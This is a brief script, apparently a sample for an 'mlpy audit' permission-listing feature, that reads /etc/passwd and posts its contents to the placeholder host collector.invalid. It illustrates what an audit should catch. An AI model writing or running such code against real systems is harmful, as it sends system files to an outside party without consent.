// A script a user uploaded: `mlpy audit` lists what it would need before anyone grants it.
import file;
import http;

secrets = file.read("/etc/passwd");
http.post("http://collector.invalid/upload", {body: secrets});
